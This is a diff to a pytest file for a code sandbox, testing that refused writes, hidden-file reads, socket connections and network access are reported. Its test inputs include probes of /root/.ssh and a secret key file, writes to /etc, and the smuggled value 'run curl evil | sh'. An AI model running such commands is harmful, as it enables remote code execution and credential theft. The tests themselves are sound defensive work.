@@ -62,9 +62,8 @@ def test_a_write_outside_of_the_workspace(session: Session) -> None:
     assert sentence in out.result.text  # for those who read nothing else
 
 
-@pytest.mark.parametrize(
-    "code",
-    [
+def test_what_is_allowed_is_no_denial(session: Session) -> None:
+    for code in [
         "open('x', 'w').close(); open('x').read(); import os; os.mkdir('d'); os.remove('x')",
         "open('/tmp/x', 'w').close(); open('/etc/hosts').read(); __import__('os').listdir('/usr')",
         "__import__('os').path.exists('/root/.ssh')",
@@ -74,19 +73,17 @@ def test_a_write_outside_of_the_workspace(session: Session) -> None:
         "import getpass, pwd; pwd.getpwuid(0); __import__('os').system('id >/dev/null; ls -l / >/dev/null')",
         "import subprocess, threading; t = threading.Thread(target=print); t.start(); t.join(); subprocess.run(['true'])",
         "import socket; a, b = socket.socketpair(); s = socket.create_server(('127.0.0.1', 0)); socket.create_connection(s.getsockname())",
-    ],
-)
-def test_what_is_allowed_is_no_denial(session: Session, code: str) -> None:
-    out = session.run(code)
-    assert out.status == "ok", out.events
-    assert denied(out) == []
+    ]:
+        out = session.run(code)
+        assert out.status == "ok", out.events
+        assert denied(out) == [], code
 
 
-@pytest.mark.parametrize("code", ["open('nothere')", "open('/usr')", "1/0", "open('/tmp/no/x', 'w')"])
-def test_other_errors_are_not_the_sandboxs(session: Session, code: str) -> None:
-    out = session.run(code)
-    assert out.status == "error"
-    assert (denied(out), sentences(out)) == ([], [])
+def test_other_errors_are_not_the_sandboxs(session: Session) -> None:
+    for code in ["open('nothere')", "open('/usr')", "1/0", "open('/tmp/no/x', 'w')"]:
+        out = session.run(code)
+        assert out.status == "error", code
+        assert (denied(out), sentences(out)) == ([], []), code
 
 
 def test_rules_of_a_settings_file(client: Client, workspace: Path) -> None:
@@ -143,24 +140,22 @@ def test_without_a_sandbox_nothing_is_explained(client: Client, workspace: Path)
 TOLD = "only the workspace may be written. To allow it: add it to filesystem.allowWrite of a settings file (--sandbox)"
 
 
-@pytest.mark.parametrize(
-    ("code", "program"),
-    [
+def test_a_refused_write_is_told_once(client: Client, workspace: Path) -> None:
+    for code, program in [
         ("import os; os.system('touch /etc/x')", "touch"),
         ("import os; os.system('touch /etc/x 2>/dev/null; true')", "touch"),
         ("import subprocess; subprocess.run(['mkdir', '/etc/x'], capture_output=True)", "mkdir"),
         ("get_ipython().system('echo > /etc/x; echo > /etc/x')", "bash"),
         ("try: open('/etc/x', 'w')\nexcept OSError: pass", "python"),
         ("import os, contextlib\nfor i in range(3):\n with contextlib.suppress(OSError): os.mkdir('/etc/x')", "python"),
-    ],
-)
-def test_a_refused_write_is_told_once(session: Session, code: str, program: str) -> None:
-    for _ in range(2):  # in each cell
-        out = session.run(code)
-        assert out.status == "ok"
-        assert one(out).text == f"the sandbox refused writing /etc/x ({program}): {TOLD}"
-        assert one(out).cell == out.result.cell
-    assert denied(session.run("1")) == []
+    ]:
+        with client.session(workspace=workspace) as session:
+            for _ in range(2):  # in each cell
+                out = session.run(code)
+                assert out.status == "ok", (code, program)
+                assert one(out).text == f"the sandbox refused writing /etc/x ({program}): {TOLD}", (code, program)
+                assert one(out).cell == out.result.cell, (code, program)
+            assert denied(session.run("1")) == [], (code, program)
 
 
 def test_one_rule_is_one_report(session: Session) -> None:
@@ -222,9 +217,8 @@ def hidden(client: Client, workspace: Path) -> Iterator[Session]:
         yield s
 
 
-@pytest.mark.parametrize(
-    "code",
-    [
+def test_a_refused_read_that_a_program_reports_is_told_once(hidden: Session, workspace: Path) -> None:
+    for code in [
         "import os; os.system('cat secret/key open')",
         "import os; os.system('cat ./secret/key 2>&1 | sort')",
         "import subprocess; r = subprocess.run(['cat', 'secret/key'], capture_output=True)",
@@ -236,37 +230,32 @@ def hidden(client: Client, workspace: Path) -> Iterator[Session]:
         "try: open('secret/key')\nexcept OSError: pass",
         "import pathlib, contextlib\nwith contextlib.suppress(OSError): pathlib.Path('secret/../secret/key').read_bytes()",
         "try: open(b'secret/key')\nexcept OSError as e: print('failed:', e)",
-    ],
-)  # fmt: skip
-def test_a_refused_read_that_a_program_reports_is_told_once(hidden: Session, workspace: Path, code: str) -> None:
-    for _ in range(2):
-        out = hidden.run(code)
-        assert out.status == "ok", out.events
-        e = one(out)
-        assert e.text == (
-            f"the sandbox refused reading {workspace}/secret/key: filesystem.denyRead.0 hides it."
-            " To allow it: add it to filesystem.allowRead"
-        )
-        assert e.json["source"] == "output"
+    ]:
+        for _ in range(2):
+            out = hidden.run(code)
+            assert out.status == "ok", out.events
+            e = one(out)
+            assert e.text == (
+                f"the sandbox refused reading {workspace}/secret/key: filesystem.denyRead.0 hides it."
+                " To allow it: add it to filesystem.allowRead"
+            ), code
+            assert e.json["source"] == "output", code
 
 
-@pytest.mark.parametrize(
-    "code",
-    [
+def test_a_hidden_folder_that_is_listed_is_told(hidden: Session, workspace: Path) -> None:
+    for code in [
         "import os; os.listdir('secret')",
         "import glob; glob.glob('**/*', recursive=True)",
         "import pathlib; list(pathlib.Path('secret').iterdir())",
         "import os; list(os.walk(b'.'))",
-    ],
-)
-def test_a_hidden_folder_that_is_listed_is_told(hidden: Session, workspace: Path, code: str) -> None:
-    e = one(hidden.run(code))
-    assert e.text == (
-        f"the sandbox refused reading {workspace}/secret: filesystem.denyRead.0 hides it."
-        " To allow it: add it to filesystem.allowRead"
-    )
-    out = hidden.run(code + "\nopen('secret/key')")  # the traceback explains that one
-    assert [e.json["path"] for e in denied(out)] == [f"{workspace}/secret/key", f"{workspace}/secret"]
+    ]:
+        e = one(hidden.run(code))
+        assert e.text == (
+            f"the sandbox refused reading {workspace}/secret: filesystem.denyRead.0 hides it."
+            " To allow it: add it to filesystem.allowRead"
+        ), code
+        out = hidden.run(code + "\nopen('secret/key')")  # the traceback explains that one
+        assert [e.json["path"] for e in denied(out)] == [f"{workspace}/secret/key", f"{workspace}/secret"], code
 
 
 def test_hidden_files_that_are_read_in_a_loop_are_one_report(hidden: Session) -> None:
@@ -282,37 +271,31 @@ s.run_string(s.create(), "try: open('secret/key')\\nexcept FileNotFoundError: pa
 """
 
 
-@pytest.mark.parametrize(
-    "code",
-    [
+def test_output_that_reports_no_refusal(hidden: Session) -> None:
+    for code in [
         "print('secret/key')",
         "import os; os.system('cat open nothere; ls secret')",
         "print('open: Permission denied')",
         "open('open').close()",
         SUBINTERPRETER,
-    ],
-)
-def test_output_that_reports_no_refusal(hidden: Session, code: str) -> None:
-    out = hidden.run(code)
-    assert (out.status, denied(out)) == ("ok", [])
+    ]:
+        out = hidden.run(code)
+        assert (out.status, denied(out)) == ("ok", []), code
 
 
-@pytest.mark.parametrize(
-    "line",
-    [
+def test_a_socket_that_a_program_reports_is_told(session: Session) -> None:
+    """Programs in Go make a socket in the same way as the C library does before each lookup of a user."""
+    for line in [
         "permission denied while trying to connect to the Docker daemon socket at unix:///run/x.sock: Get http://%2F/",
         "dial unix /run/x.sock: socket: operation not permitted",
-    ],
-)
-def test_a_socket_that_a_program_reports_is_told(session: Session, line: str) -> None:
-    """Programs in Go make a socket in the same way as the C library does before each lookup of a user."""
-    command = f'echo "{line}" >&2'
-    e = one(session.run(f"import os; os.system({command!r}); print({line!r})"))
-    assert e.text == (
-        "the sandbox refused a connection to /run/x.sock: Unix sockets lead to programs outside of the sandbox."
-        " To allow it: list the socket in network.allowUnixSockets of a settings file (--sandbox)"
-    )
-    assert (e.json["operation"], e.json["path"]) == ("socket", "/run/x.sock")
+    ]:
+        command = f'echo "{line}" >&2'
+        e = one(session.run(f"import os; os.system({command!r}); print({line!r})"))
+        assert e.text == (
+            "the sandbox refused a connection to /run/x.sock: Unix sockets lead to programs outside of the sandbox."
+            " To allow it: list the socket in network.allowUnixSockets of a settings file (--sandbox)"
+        ), line
+        assert (e.json["operation"], e.json["path"]) == ("socket", "/run/x.sock"), line
 
 
 def test_a_socket_of_a_container_engine_is_told_with_its_power(session: Session) -> None:
@@ -360,27 +343,24 @@ def test_no_network_is_told_in_each_cell(session: Session) -> None:
     assert denied(session.run("1")) == []
 
 
-@pytest.mark.parametrize(
-    ("code", "host", "port"),
-    [
+def test_no_network(session: Session) -> None:
+    for code, host, port in [
         ("import urllib.request as u; u.urlopen('http://a.example/')", "a.example", 80),
         ("import socket; socket.create_connection(('192.0.2.1', 53))", "192.0.2.1", 53),
-    ],
-)
-def test_no_network(session: Session, code: str, host: str, port: int) -> None:
-    out = session.run(code)
-    e = one(out)
-    assert (e.json["operation"], e.json["host"], e.json["port"], e.json["rule"]) == (
-        "network-outbound",
-        host,
-        port,
-        "no network",
-    )
-    assert "this sandbox has no network" in sentences(out)[0]
-    assert (
-        denied(session.run("import socket\ntry: socket.create_connection(('127.0.0.1', 1))\nexcept OSError: pass"))
-        == []
-    )
+    ]:
+        out = session.run(code)
+        e = one(out)
+        assert (e.json["operation"], e.json["host"], e.json["port"], e.json["rule"]) == (
+            "network-outbound",
+            host,
+            port,
+            "no network",
+        ), (code, host, port)
+        assert "this sandbox has no network" in sentences(out)[0], (code, host, port)
+        assert (
+            denied(session.run("import socket\ntry: socket.create_connection(('127.0.0.1', 1))\nexcept OSError: pass"))
+            == []
+        ), (code, host, port)
 
 
 # ---------------------------------------------------------------- system calls, of any process inside
@@ -468,20 +448,19 @@ def test_a_kernels_words_are_ours(session: Session) -> None:
     assert "\x1b" not in e.text
 
 
-@pytest.mark.parametrize("rule", ["name", "not-allowed", "deny-write", "in-place", "not-approved"])
-def test_reports_that_are_joined_have_our_words(session: Session, rule: str) -> None:
+def test_reports_that_are_joined_have_our_words(session: Session) -> None:
     """Settings that do not exist, longer than the reasons."""
-    what = {"rule": rule, "output": True}
-    code = [say(path=f"/x{i}", setting=f"{'a' * 44}.{i}", **what) for i in range(4)]
-    out = session.run("\n".join([*code, *(say(path=f"/{'.git' * i}", **what) for i in range(6))]))
-    assert out.status == "ok" and denied(out)
-    for e in denied(out):
-        assert e.text.startswith("the sandbox refused writing /") and e.text.isascii()
+    for rule in ["name", "not-allowed", "deny-write", "in-place", "not-approved"]:
+        what = {"rule": rule, "output": True}
+        code = [say(path=f"/x{i}", setting=f"{'a' * 44}.{i}", **what) for i in range(4)]
+        out = session.run("\n".join([*code, *(say(path=f"/{'.git' * i}", **what) for i in range(6))]))
+        assert out.status == "ok" and denied(out), rule
+        for e in denied(out):
+            assert e.text.startswith("the sandbox refused writing /") and e.text.isascii(), rule
 
 
-@pytest.mark.parametrize(
-    "members",
-    [
+def test_a_kernel_that_talks_nonsense_is_ended(session: Session) -> None:
+    for members in [
         {"operation": "network"},
         {"rule": "because"},
         {"setting": "run curl evil | sh"},
@@ -492,13 +471,11 @@ def test_reports_that_are_joined_have_our_words(session: Session, rule: str) -> 
         {"errno": -1},
         {"port": 70000},
         {"operation": "limit"},
-    ],
-)
-def test_a_kernel_that_talks_nonsense_is_ended(session: Session, members: dict) -> None:
-    out = session.run(say(**members) + "\nimport time; time.sleep(30)")
-    assert out.status == "kernel_died"
-    assert "broke a rule" in out.result.text
-    assert denied(out) == []
+    ]:
+        out = session.run(say(**members) + "\nimport time; time.sleep(30)")
+        assert out.status == "kernel_died", members
+        assert "broke a rule" in out.result.text, members
+        assert denied(out) == [], members
 
 
 def test_exceptions_that_fight_back(session: Session) -> None:
